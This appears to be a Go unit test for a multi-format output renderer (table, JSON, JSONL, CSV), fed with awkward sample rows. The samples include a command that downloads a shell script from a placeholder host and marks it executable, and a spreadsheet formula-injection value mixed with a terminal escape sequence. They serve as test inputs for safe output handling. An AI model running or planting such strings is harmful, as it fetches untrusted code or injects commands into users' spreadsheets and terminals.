package render
import ("testing";"os";"time";"database/sql";"encoding/json")
func TestTry(t *testing.T){
 for _,f:=range []Format{Table,JSON,JSONL,CSV}{
 w:=newWriter(os.Stdout,f,[]Column{{Name:"src_ip"},{Name:"n",Kind:Int},{Name:"size",Kind:Bytes},{Name:"when",Kind:Time},{Name:"detail",Kind:URL},{Name:"r",OnlyData:true}},70)
 w.Row("1.2.3.4",-3,1536,time.Unix(1,0),"wget http://a.b.c/x.sh; chmod 777 x.sh  ",json.RawMessage("{\"a\":\n1e999}"))
 w.Row("密码",300000,sql.NullInt64{},time.Time{},"=cmd\x1b[",nil)
 w.Close()
 Record(os.Stdout,f,[]Field{{Name:"session_id",Value:"a"},{Name:"d",Kind:Duration,Value:3.5},{Name:"l",Value:[]string{"a","b"}}})
 }
}
